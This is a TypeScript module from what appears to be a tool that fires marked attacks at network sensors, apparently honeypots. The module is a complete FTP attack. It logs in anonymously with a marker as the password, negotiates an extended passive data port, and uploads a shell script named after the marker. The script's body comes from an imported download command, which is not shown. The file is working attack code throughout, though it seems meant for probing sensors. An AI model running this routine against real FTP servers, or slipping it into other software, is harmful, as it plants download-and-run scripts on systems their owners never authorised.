import { downloadCommand, type SensorAddress, type SensorAttack } from './attack.js'
import { type Conversation, converse } from './conversation.js'
import { REPLY } from './lines.js'

/** Ports below are of services, which a server that is hostile might name. */
const MIN_DATA_PORT = 1_024

/** Logs in as anybody may, with the marker as the password, and stores a program. */
export const ftpAttack: SensorAttack = (where, { marker, deadline }) =>
  converse(where, deadline, async (control) => {
    await control.until(REPLY)
    await ask(control, 'USER anonymous')
    if ((await ask(control, `PASS ${marker}`)).code === '230') {
      await ask(control, 'TYPE I')
      const port = dataPortIn(await ask(control, 'EPSV'))
      // At the address of the sensor, whatever it answers; a hostile one names others.
      if (port !== null) await store({ ...where, port }, control, { marker, deadline })
    }
    control.send('QUIT\r\n')
  })

interface Reply {
  code: string
  text: string
}

async function ask({ send, until }: Conversation, command: string): Promise<Reply> {
  send(`${command}\r\n`)
  const [text, code = ''] = await until(REPLY)
  return { code, text }
}

/** RFC 2428: `229 Entering Extended Passive Mode (|||6446|)`. */
function dataPortIn({ code, text }: Reply): number | null {
  const port = Number(/\(\|\|\|(\d{1,5})\|\)/.exec(text)?.[1])
  return code === '229' && port >= MIN_DATA_PORT && port <= 65_535 ? port : null
}

async function store(
  data: SensorAddress,
  control: Conversation,
  { marker, deadline }: Parameters<SensorAttack>[1],
): Promise<void> {
  control.send(`STOR ${marker}.sh\r\n`)
  let isTaken = false
  await converse(data, deadline, async ({ end }) => {
    const [, code = ''] = await control.until(REPLY)
    isTaken = code.startsWith('1')
    if (isTaken) end(Buffer.from(`#!/bin/sh\n${downloadCommand(marker)}\n`))
  })
  if (isTaken) await control.until(REPLY)
}
